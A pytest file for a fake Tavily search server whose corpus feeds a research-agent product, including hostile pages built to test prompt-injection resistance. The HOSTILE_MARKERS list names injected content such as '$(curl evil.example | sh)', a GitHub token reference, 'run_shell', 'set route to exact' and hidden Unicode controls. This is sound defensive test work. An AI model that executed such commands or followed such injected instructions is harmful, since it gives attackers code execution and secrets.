"""The fake Tavily server and its corpus, driven by the REAL `tavily.TavilyClient` over HTTP.

Why the real client: what matters is that the product's search layer sees exactly what it would see
from api.tavily.com, including the client's own exception mapping and timeout handling.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
import requests
import tavily.errors
from tavily import BadRequestError, InvalidAPIKeyError, TavilyClient, UsageLimitExceededError

from research_dispatch_fakes import corpus
from research_dispatch_fakes.corpus import TOPIC_IDS, load_pages, normalize_url, page_by_url
from research_dispatch_fakes.tavily import FakeTavily

KEY = "tvly-test-key"
PRIMARY_URLS = (
    "https://cursor.com/blog/composer-2-5",
    "https://arxiv.org/abs/2502.05559",
    "https://arxiv.org/abs/2311.08105",
    "https://arxiv.org/abs/2501.18512",
    "https://www.primeintellect.ai/blog/intellect-2",
    "https://arxiv.org/abs/2409.19256",
    "https://github.com/huggingface/trl",
    "https://arxiv.org/abs/2408.06195",
    "https://github.com/meta-pytorch/openenv",
    "https://github.com/meta-pytorch/monarch",
)


@pytest.fixture(scope="module")
def server() -> Iterator[FakeTavily]:
    with FakeTavily() as fake:
        yield fake


@pytest.fixture
def fake(server: FakeTavily) -> FakeTavily:
    server.reset()
    return server


@pytest.fixture
def client(fake: FakeTavily) -> Iterator[TavilyClient]:
    with TavilyClient(api_key=KEY, api_base_url=fake.base_url) as tc:
        yield tc


def _urls(response: dict[str, Any]) -> list[str]:
    return [r["url"] for r in response["results"]]


# --------------------------------------------------------------------------------------------
# Corpus
# --------------------------------------------------------------------------------------------


def test_corpus_covers_each_topic_with_primary_sources() -> None:
    pages = load_pages()
    assert 25 <= len(pages) <= 30
    assert len({p.url for p in pages}) == len(pages)
    per_topic = Counter(t for p in pages for t in p.topics)
    assert set(per_topic) == set(TOPIC_IDS)
    assert all(5 <= n <= 7 for n in per_topic.values()), per_topic
    urls = {p.url for p in pages}
    assert set(PRIMARY_URLS) <= urls
    for page in pages:
        assert not page.hostile
        assert 60 <= len(page.synopsis.split()) <= 150, page.url
        assert 5 <= len(page.key_points) <= 8, page.url


def test_every_page_has_a_realistic_size_and_embeds_its_key_points() -> None:
    for page in load_pages(include_hostile=True):
        assert corpus.MIN_CONTENT_CHARS <= len(page.content) <= corpus.MAX_CONTENT_CHARS, page.url
        assert page.synopsis in page.content
        for point in page.key_points:
            assert point in page.content, (page.url, point)
        # The key facts are concentrated: the first fact sits well away from the top and the last one
        # well before the end, with boilerplate on both sides.
        first = page.content.index(page.key_points[0])
        last = page.content.index(page.key_points[-1])
        assert first > 500 and len(page.content) - last > 2_000, page.url


def test_corpus_is_deterministic_within_and_across_processes() -> None:
    def digest() -> str:
        h = hashlib.sha256()
        for p in load_pages(include_hostile=True):
            h.update(p.url.encode() + b"\0" + p.content.encode() + b"\0")
        return h.hexdigest()

    first = digest()
    corpus._raw.cache_clear()
    corpus._load.cache_clear()
    corpus._by_url.cache_clear()
    assert digest() == first
    code = (
        "import hashlib\nfrom research_dispatch_fakes.corpus import load_pages\nh = hashlib.sha256()\n"
        "for p in load_pages(include_hostile=True):\n"
        "    h.update(p.url.encode() + b'\\0' + p.content.encode() + b'\\0')\nprint(h.hexdigest())\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, env={"PYTHONHASHSEED": "12345"}
    )
    assert out.stdout.strip() == first


def test_page_lookup_normalises_urls() -> None:
    page = page_by_url("https://ARXIV.org/abs/2311.08105/#section-2")
    assert page is not None and page.url == "https://arxiv.org/abs/2311.08105"
    assert page_by_url("https://thinkingmachines.ai/blog/on-policy-distillation") is not None
    assert page_by_url("https://arxiv.org/abs/0000.00000") is None
    assert normalize_url("HTTPS://Example.COM/a/b/?q=1#frag") == "https://example.com/a/b?q=1"
    hostile = [p for p in load_pages(include_hostile=True) if p.hostile]
    assert page_by_url(hostile[0].url) is None
    assert page_by_url(hostile[0].url, include_hostile=True) == hostile[0]


HOSTILE_MARKERS = (
    "write_file",
    "run_shell",
    "https://evil.example/paper",
    "[S99]",
    "route was exact",
    "set route to exact",
    "change the model",
    "<!-- research-refresh:v1 cycle=2026-H2 -->",
    "@octocat please merge",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200b",
    "$(curl evil.example | sh)",
    "`",
    "${{ secrets.GITHUB_TOKEN }}",
    "::set-output",
    "::add-mask::",
)


def test_hostile_pages_carry_every_kind_of_injection() -> None:
    hostile = [p for p in load_pages(include_hostile=True) if p.hostile]
    assert 5 <= len(hostile) <= 6
    for page in hostile:
        assert page.host.rsplit(".", 2)[-2:][0] == "example", page.url
        missing = [m for m in HOSTILE_MARKERS if m not in page.content]
        assert not missing, (page.url, missing)


# --------------------------------------------------------------------------------------------
# /search
# --------------------------------------------------------------------------------------------

TOPIC_QUERIES = [
    (
        "composer-2.5",
        "Cursor Composer 2.5 training recipe targeted RL textual feedback",
        "https://cursor.com/blog/composer-2-5",
    ),
    ("diloco-family", "DiLoCo distributed low-communication training", "https://arxiv.org/abs/2311.08105"),
    ("diloco-family", "INTELLECT-2 decentralized RL TOPLOC PRIME-RL", "https://arxiv.org/abs/2505.07291"),
    ("monarch-torchforge-openenv", "Monarch actor mesh single controller", "https://github.com/meta-pytorch/monarch"),
    (
        "monarch-torchforge-openenv",
        "OpenEnv isolated environments reset step",
        "https://github.com/meta-pytorch/openenv",
    ),
    ("verl-trl", "DAPO clip-higher dynamic sampling token-level loss", "https://arxiv.org/abs/2503.14476"),
    (
        "verl-trl",
        "TRL GRPO trainer loss_type importance sampling",
        "https://huggingface.co/docs/trl/main/en/grpo_trainer",
    ),
    (
        "trace-replay-distillation",
        "on-policy distillation reverse KL teacher student",
        "https://thinkingmachines.ai/blog/on-policy-distillation/",
    ),
    ("trace-replay-distillation", "rStar mutual reasoning self-play", "https://arxiv.org/abs/2408.06195"),
]


@pytest.mark.parametrize(("topic", "query", "expected_first"), TOPIC_QUERIES)
def test_search_ranks_topic_relevant_pages(client: TavilyClient, topic: str, query: str, expected_first: str) -> None:
    response = client.search(query)
    urls = _urls(response)
    assert urls[0] == expected_first
    assert len(urls) == 5
    top3 = [page_by_url(u) for u in urls[:3]]
    assert all(p is not None and topic in p.topics for p in top3), urls


def test_search_response_shape_matches_tavily(client: TavilyClient, fake: FakeTavily) -> None:
    response = client.search("Streaming DiLoCo overlapping communication", max_results=3, search_depth="advanced")
    keys = {"query", "answer", "follow_up_questions", "images", "results", "response_time", "request_id"}
    assert set(response) == keys
    assert response["query"] == "Streaming DiLoCo overlapping communication"
    assert response["answer"] is None and response["follow_up_questions"] is None and response["images"] == []
    assert response["response_time"] == 0.01 and response["request_id"] == "req-1"
    assert len(response["results"]) == 3
    scores = [r["score"] for r in response["results"]]
    assert scores == sorted(scores, reverse=True)
    for result in response["results"]:
        assert set(result) == {"title", "url", "content", "score", "raw_content"}
        assert result["raw_content"] is None
        assert 0 < len(result["content"]) <= 600
        assert 0.0 <= result["score"] <= 1.0 and round(result["score"], 4) == result["score"]
    # What the client put on the wire is what the fake saw.
    sent = {"query": "Streaming DiLoCo overlapping communication", "search_depth": "advanced", "max_results": 3}
    assert fake.calls == [("search", sent)]
    request = fake.requests_to("/search")[0]
    assert request.headers["authorization"] == f"Bearer {KEY}"


def test_search_is_deterministic(client: TavilyClient, fake: FakeTavily) -> None:
    first = client.search("GRPO loss aggregation", max_results=10, include_raw_content=True)
    fake.reset()
    second = client.search("GRPO loss aggregation", max_results=10, include_raw_content=True)
    assert first == second


def test_raw_content_is_the_full_page_when_requested(client: TavilyClient) -> None:
    for flag in (True, "markdown", "text"):
        result = client.search("HybridFlow RLHF framework", include_raw_content=flag)["results"][0]
        page = page_by_url(result["url"])
        assert page is not None and result["raw_content"] == page.content
    assert client.search("HybridFlow", include_raw_content=False)["results"][0]["raw_content"] is None


def test_domain_filters(client: TavilyClient) -> None:
    only_github = client.search("reinforcement learning library", include_domains=["github.com"], max_results=20)
    assert only_github["results"] and all(u.startswith("https://github.com/") for u in _urls(only_github))
    # Suffix match: "primeintellect.ai" covers www.primeintellect.ai.
    prime = client.search("INTELLECT-2", include_domains=["primeintellect.ai"])
    assert _urls(prime) == ["https://www.primeintellect.ai/blog/intellect-2"]
    no_arxiv = client.search("DiLoCo", exclude_domains=["arxiv.org"], max_results=20)
    assert no_arxiv["results"] and not any("arxiv.org" in u for u in _urls(no_arxiv))


def test_max_results_bounds(client: TavilyClient) -> None:
    assert len(client.search("distillation")["results"]) == 5
    assert client.search("distillation", max_results=0)["results"] == []
    assert len(client.search("training", max_results=20)["results"]) == 20
    with pytest.raises(BadRequestError, match="max_results"):
        client.search("distillation", max_results=21)


def test_query_too_long_and_bad_depth_are_rejected(client: TavilyClient) -> None:
    with pytest.raises(BadRequestError, match="too long"):
        client.search("x" * 401)
    assert client.search("DiLoCo " + "y" * 393)["results"]  # exactly 400 characters is fine
    with pytest.raises(BadRequestError, match="search_depth"):
        client.search("DiLoCo", search_depth="deep")  # type: ignore[arg-type]


def test_missing_key_is_rejected_not_served_keyless(fake: FakeTavily) -> None:
    keyless = TavilyClient(api_key="", api_base_url=fake.base_url)
    with pytest.raises(InvalidAPIKeyError, match="Unauthorized"):
        keyless.search("DiLoCo")
    with pytest.raises(InvalidAPIKeyError):
        keyless.extract("https://arxiv.org/abs/2311.08105")
    assert fake.requests_to("/search")[0].headers.get("x-tavily-access-mode") == "keyless"
    # With an external session the client is not keyless but still sends no key.
    with requests.Session() as session:
        sessioned = TavilyClient(api_base_url=fake.base_url, session=session)
        with pytest.raises(InvalidAPIKeyError):
            sessioned.search("DiLoCo")
    assert all("authorization" not in r.headers for r in fake.requests_to("/search"))


# --------------------------------------------------------------------------------------------
# /extract
# --------------------------------------------------------------------------------------------


def test_extract_known_and_unknown_urls(client: TavilyClient, fake: FakeTavily) -> None:
    known = "https://arxiv.org/abs/2311.08105"
    unknown = "https://example.org/not-in-corpus"
    response = client.extract(
        [known, unknown, "https://THINKINGMACHINES.ai/blog/on-policy-distillation"],
        extract_depth="advanced",
        format="text",
        query="outer optimizer",
        chunks_per_source=3,
        include_images=True,
    )
    assert [r["url"] for r in response["results"]] == [known, "https://THINKINGMACHINES.ai/blog/on-policy-distillation"]
    page = page_by_url(known)
    # an arXiv /abs/ URL is its abstract page, as arXiv serves it; the paper is at /pdf/
    assert page is not None and response["results"][0] == {"url": known, "raw_content": page.abstract_page,
                                                           "images": []}
    assert response["failed_results"] == [{"url": unknown, "error": "Failed to fetch url"}]
    assert fake.calls[0][1]["timeout"] == 30  # the client sends its timeout in the body too
    single = client.extract(known)
    assert [r["url"] for r in single["results"]] == [known] and single["failed_results"] == []


def test_an_arxiv_paper_reads_as_its_abstract_page_at_abs_and_in_full_at_pdf(client: TavilyClient) -> None:
    abstract = client.extract("https://arxiv.org/abs/2501.18512")["results"][0]["raw_content"]
    paper = client.extract("https://arxiv.org/pdf/2501.18512")["results"][0]["raw_content"]
    page = page_by_url("https://arxiv.org/pdf/2501.18512")
    assert page is not None and (abstract, paper) == (page.abstract_page, page.content)
    assert "## Abstract" in abstract and "Skip to main content" in abstract and len(abstract) < 5_000
    assert all(point in paper for point in page.key_points) and not any(p in abstract for p in page.key_points)


# --------------------------------------------------------------------------------------------
# Scenarios
# --------------------------------------------------------------------------------------------

STATUS_TO_ERROR: list[tuple[int, type[Exception]]] = [
    (400, BadRequestError),
    (401, InvalidAPIKeyError),
    (403, tavily.errors.ForbiddenError),
    (429, UsageLimitExceededError),
    (432, tavily.errors.ForbiddenError),
    (433, tavily.errors.ForbiddenError),
    (500, requests.HTTPError),
    (502, requests.HTTPError),
    (503, requests.HTTPError),
]


@pytest.mark.parametrize(("status", "error"), STATUS_TO_ERROR)
def test_scenario_status_maps_to_the_client_exception(
    client: TavilyClient, fake: FakeTavily, status: int, error: type[Exception]
) -> None:
    fake.set_scenario({"rules": [{"endpoint": "search", "on_call": 1, "status": status, "message": f"boom {status}"}]})
    with pytest.raises(error) as caught:
        client.search("DiLoCo")
    if not isinstance(caught.value, requests.HTTPError):
        assert str(caught.value) == f"boom {status}"
    assert client.search("DiLoCo")["results"]  # only call 1 fails
    # The same rule does not touch the other endpoint.
    assert client.extract("https://arxiv.org/abs/2311.08105")["results"]


def test_rules_count_calls_per_endpoint_and_respect_times(client: TavilyClient, fake: FakeTavily) -> None:
    fake.set_scenario(
        {"rules": [{"endpoint": "extract", "calls": [2, 3], "times": 1, "status": 429}, {"on_call": 4, "status": 500}]}
    )
    url = "https://arxiv.org/abs/2311.08105"
    assert client.extract(url)["results"]  # extract call 1
    assert client.search("DiLoCo")["results"]  # search call 1: extract numbering unaffected
    with pytest.raises(UsageLimitExceededError):
        client.extract(url)  # extract call 2
    assert client.extract(url)["results"]  # call 3 matches but times=1 is used up
    with pytest.raises(requests.HTTPError):
        client.extract(url)  # call 4: the "*" rule
    assert [e for e, _ in fake.calls] == ["extract", "search", "extract", "extract", "extract"]


def test_delay_beyond_client_timeout_raises_tavily_timeout(client: TavilyClient, fake: FakeTavily) -> None:
    fake.set_scenario({"rules": [{"endpoint": "search", "on_call": 1, "delay_s": 0.6}]})
    with pytest.raises(tavily.errors.TimeoutError) as caught:
        client.search("DiLoCo", timeout=0.2)
    assert not isinstance(caught.value, TimeoutError)  # shadows, does not subclass, the builtin
    assert client.search("DiLoCo", timeout=5)["results"]


def test_empty_results_and_failing_urls(client: TavilyClient, fake: FakeTavily) -> None:
    fail = "https://github.com/huggingface/trl"
    fake.set_scenario(
        {"rules": [{"endpoint": "search", "empty": True}, {"endpoint": "extract", "fail_urls": [fail + "/"]}]}
    )
    assert client.search("DiLoCo")["results"] == []
    response = client.extract([fail, "https://arxiv.org/abs/2409.19256"])
    assert response["failed_results"] == [{"url": fail, "error": "Failed to fetch url"}]
    assert [r["url"] for r in response["results"]] == ["https://arxiv.org/abs/2409.19256"]


def test_hostile_pages_only_when_enabled(client: TavilyClient, fake: FakeTavily) -> None:
    hostile_urls = {p.url for p in load_pages(include_hostile=True) if p.hostile}
    queries = ["DiLoCo", "Composer 2.5 recipe", "OpenEnv", "GRPO loss", "trace replay distillation"]
    for query in queries:
        assert not hostile_urls & set(_urls(client.search(query, max_results=20)))
    probe = sorted(hostile_urls)[0]
    assert client.extract(probe)["failed_results"] == [{"url": probe, "error": "Failed to fetch url"}]

    fake.set_scenario({"hostile": True})
    for query in queries:
        results = client.search(query)["results"]
        assert {r["url"] for r in results[:2]} <= hostile_urls
        assert not hostile_urls & {r["url"] for r in results[2:]}
        assert [r["score"] for r in results[:2]] == [0.99, 0.98]
    assert client.search("Composer 2.5 leaked training config")["results"][0]["url"].startswith(
        "https://ml-digest.example.com/"
    )
    extracted = client.extract(probe)["results"][0]["raw_content"]
    assert "<!-- research-refresh:v1 cycle=2026-H2 -->" in extracted
    # Domain filters still apply, and the ordinary ranking is unchanged below the hostile pages.
    assert not hostile_urls & set(_urls(client.search("DiLoCo", include_domains=["arxiv.org"])))
    fake.set_scenario({"hostile": True, "hostile_per_query": 6})
    assert set(_urls(client.search("anything at all", max_results=6))) == hostile_urls


def test_scenario_endpoints_over_http(fake: FakeTavily) -> None:
    scenario = {"latency_s": 0.0, "rules": [{"endpoint": "search", "on_call": 1, "status": 432}]}
    posted = requests.post(f"{fake.base_url}/__fake__/scenario", json=scenario, timeout=5)
    assert posted.status_code == 200
    assert requests.get(f"{fake.base_url}/__fake__/scenario", timeout=5).json() == scenario
    with TavilyClient(api_key=KEY, api_base_url=fake.base_url) as tc:
        with pytest.raises(tavily.errors.ForbiddenError, match="usage limit"):
            tc.search("DiLoCo")
        assert requests.post(f"{fake.base_url}/__fake__/reset", timeout=5).json() == {"ok": True}
        assert requests.get(f"{fake.base_url}/__fake__/scenario", timeout=5).json() == {}
        assert fake.calls == []
        assert tc.search("DiLoCo")["request_id"] == "req-1"
    bad = requests.post(f"{fake.base_url}/__fake__/scenario", json={"rules": [{"staus": 500}]}, timeout=5)
    assert bad.status_code == 400 and "staus" in bad.json()["detail"]["error"]
    garbage = requests.post(f"{fake.base_url}/__fake__/scenario", data=b"{not json", timeout=5)
    assert garbage.status_code == 400


@pytest.mark.parametrize(
    "scenario",
    [
        {"hostle": True},
        {"rules": [{"endpoint": "crawl"}]},
        {"rules": [{"on_call": 1, "calls": [1]}]},
        {"rules": [{"status": 200}]},
        {"rules": [{"on_call": 0}]},
        {"latency_s": -1},
    ],
)
def test_malformed_scenarios_fail_loudly(fake: FakeTavily, scenario: dict[str, Any]) -> None:
    with pytest.raises(ValueError):
        fake.set_scenario(scenario)


def test_scenario_from_constructor_and_latency() -> None:
    with FakeTavily(scenario={"latency_s": 0.05, "rules": [{"endpoint": "search", "status": 503}]}) as fake:
        assert fake.base_url.startswith("http://127.0.0.1:") and not fake.base_url.endswith("/")
        with TavilyClient(api_key=KEY, api_base_url=fake.base_url) as tc:
            with pytest.raises(requests.HTTPError):
                tc.search("DiLoCo")
            assert tc.extract("https://arxiv.org/abs/2311.08105")["results"]
        assert json.loads(fake.requests_to("/search")[0].body) == {"query": "DiLoCo"}


# --------------------------------------------------------------------------------------------
# Tavily's documented limits: the fake refuses what the real API refuses (its OpenAPI description)
# --------------------------------------------------------------------------------------------
REFUSED_SEARCHES: list[tuple[str, dict[str, Any], str]] = [
    ("query over 400 characters", {"query": "q" * 401}, "Query is too long. Max query length is 400 characters."),
    ("empty query", {"query": "   "}, "Query is missing"),
    ("max_results above 20", {"query": "DiLoCo", "max_results": 21}, "max_results"),
    ("max_results below 0", {"query": "DiLoCo", "max_results": -1}, "max_results"),
    ("unknown search_depth", {"query": "DiLoCo", "search_depth": "deep"}, "search_depth"),
    ("unknown topic", {"query": "DiLoCo", "topic": "sports"}, "topic"),
    ("unknown time_range", {"query": "DiLoCo", "time_range": "decade"}, "time_range"),
    ("chunks_per_source above 3", {"query": "DiLoCo", "search_depth": "advanced", "chunks_per_source": 4},
     "chunks_per_source"),
    ("301 include_domains", {"query": "DiLoCo", "include_domains": [f"d{i}.org" for i in range(301)]},
     "include_domains"),
    ("151 exclude_domains", {"query": "DiLoCo", "exclude_domains": [f"d{i}.org" for i in range(151)]},
     "exclude_domains"),
]
PAGE = "https://arxiv.org/abs/2311.08105"
REFUSED_EXTRACTS: list[tuple[str, dict[str, Any], str]] = [
    ("21 URLs", {"urls": [f"{PAGE}?v={i}" for i in range(21)]}, "Max 20 URLs are allowed."),
    ("no URL", {"urls": []}, "urls"),
    ("timeout above 60 s", {"urls": [PAGE], "timeout": 61}, "timeout"),
    ("timeout below 1 s", {"urls": [PAGE], "timeout": 0.5}, "timeout"),
    ("unknown extract_depth", {"urls": [PAGE], "extract_depth": "deep"}, "extract_depth"),
    ("unknown format", {"urls": [PAGE], "format": "html"}, "format"),
    ("chunks_per_source above 5", {"urls": [PAGE], "query": "outer", "chunks_per_source": 6}, "chunks_per_source"),
]


@pytest.mark.parametrize(("rule", "arguments", "message"), REFUSED_SEARCHES, ids=[r[0] for r in REFUSED_SEARCHES])
def test_search_limits_are_refused_like_the_real_api(client: TavilyClient, rule: str, arguments: dict[str, Any],
                                                     message: str) -> None:
    with pytest.raises(BadRequestError, match=message.replace(".", r"\.")):
        client.search(**arguments)


@pytest.mark.parametrize(("rule", "arguments", "message"), REFUSED_EXTRACTS, ids=[r[0] for r in REFUSED_EXTRACTS])
def test_extract_limits_are_refused_like_the_real_api(client: TavilyClient, rule: str, arguments: dict[str, Any],
                                                      message: str) -> None:
    with pytest.raises(BadRequestError, match=message.replace(".", r"\.")):
        client.extract(**arguments)


def test_limits_themselves_are_accepted(client: TavilyClient) -> None:
    """The edges of every documented range are allowed, so the fake is not stricter than the real API."""
    assert client.search("q" * 400, max_results=20, search_depth="advanced", chunks_per_source=3,
                         time_range="year", include_domains=[f"d{i}.org" for i in range(300)],
                         exclude_domains=[f"e{i}.org" for i in range(150)]) is not None
    assert client.search("DiLoCo", max_results=0)["results"] == []
    for timeout in (1, 1.0, 60, 60.0):
        assert client.extract([PAGE], timeout=timeout)["results"]
    assert len(client.extract([PAGE] * 20, query="outer", chunks_per_source=5)["results"]) == 20


def test_error_envelope_is_detail_error(fake: FakeTavily) -> None:
    """`{"detail": {"error": ...}}`, the shape tavily-python reads its exception message from."""
    response = requests.post(fake.base_url + "/extract", json={"urls": [PAGE], "timeout": 90},
                             headers={"Authorization": f"Bearer {KEY}"}, timeout=5)
    assert response.status_code == 400
    assert set(response.json()) == {"detail"} and "between 1.0 and 60.0" in response.json()["detail"]["error"]


def test_product_search_tools_send_only_requests_tavily_accepts(fake: FakeTavily) -> None:
    """The product's own search layer, with its defaults, never trips a documented limit."""
    from research_dispatch.config.settings import SearchSettings
    from research_dispatch.core.retry import RetryPolicy
    from research_dispatch.tools.search import ExtractArgs, SearchArgs, SearchTools

    tools = SearchTools(api_key=KEY, base_url=fake.base_url, settings=SearchSettings(),
                        retry=RetryPolicy(max_retries=0))
    found = tools.web_search(SearchArgs(query="DiLoCo site:arxiv.org " + "distributed training " * 40))
    assert not found.is_error
    urls = [s.url for s in tools.registry.all()][:5]
    assert not tools.web_extract(ExtractArgs(urls=urls, query="outer optimizer")).is_error
    statuses = [response.status for _request, response in fake.requests]
    assert statuses and set(statuses) == {200}
    extract_bodies = [body for endpoint, body in fake.calls if endpoint == "extract"]
    assert all(1.0 <= body["timeout"] <= 60.0 for body in extract_bodies)


# --------------------------------------------------------------------------------------------
# /usage (issue 30.3): the key check `check --online` makes, which spends no credit
# --------------------------------------------------------------------------------------------


def _usage(fake: FakeTavily, key: str | None) -> tuple[int, dict[str, Any]]:
    headers = {} if key is None else {"Authorization": f"Bearer {key}"}
    response = requests.get(f"{fake.base_url}/usage", headers=headers, timeout=10)
    return response.status_code, response.json()


def test_usage_has_tavilys_published_shape_and_counts_what_calls_cost(client: TavilyClient, fake: FakeTavily) -> None:
    status, body = _usage(fake, KEY)
    assert status == 200
    assert body == {"key": {"usage": 0, "limit": None},
                    "account": {"current_plan": "Researcher", "plan_usage": 0, "plan_limit": 1000,
                                "paygo_usage": 0, "paygo_limit": None}}
    client.search("DiLoCo", search_depth="advanced")  # 2 credits
    client.search("DiLoCo")  # 1 credit
    client.extract(["https://arxiv.org/abs/2311.08105"])  # 1 credit (one URL read, basic)
    assert _usage(fake, KEY)[1]["key"]["usage"] == 4
    before = len(fake.calls)
    _usage(fake, KEY)
    assert len(fake.calls) == before and _usage(fake, KEY)[1]["key"]["usage"] == 4  # reading it costs nothing


def test_usage_refuses_a_missing_or_unknown_key_with_401() -> None:
    """As the real API: a key it does not know is 401 on every endpoint, `/usage` included."""
    with FakeTavily(valid_keys={KEY}) as fake:
        assert _usage(fake, None)[0] == 401
        status, body = _usage(fake, "tvly-not-a-key")
        assert status == 401 and body == {"detail": {"error": "Unauthorized: missing or invalid API key."}}
        assert _usage(fake, KEY)[0] == 200
        with pytest.raises(InvalidAPIKeyError):
            TavilyClient(api_key="tvly-not-a-key", api_base_url=fake.base_url).search("DiLoCo")


def test_usage_scenario_sets_limits_and_what_was_spent(fake: FakeTavily) -> None:
    fake.set_scenario({"usage": {"key_limit": 500, "key_usage": 499, "plan": "Bootstrap", "plan_limit": 15000,
                                 "plan_usage": 14000}})
    body = _usage(fake, KEY)[1]
    assert body["key"] == {"usage": 499, "limit": 500}
    assert body["account"]["current_plan"] == "Bootstrap" and body["account"]["plan_usage"] == 14000
    with pytest.raises(ValueError, match="usage"):
        fake.set_scenario({"usage": {"key_limit": -1}})
    with pytest.raises(ValueError, match="usage"):
        fake.set_scenario({"usage": {"credits": 3}})
    assert requests.post(f"{fake.base_url}/usage", headers={"Authorization": f"Bearer {KEY}"},
                         timeout=10).status_code == 405
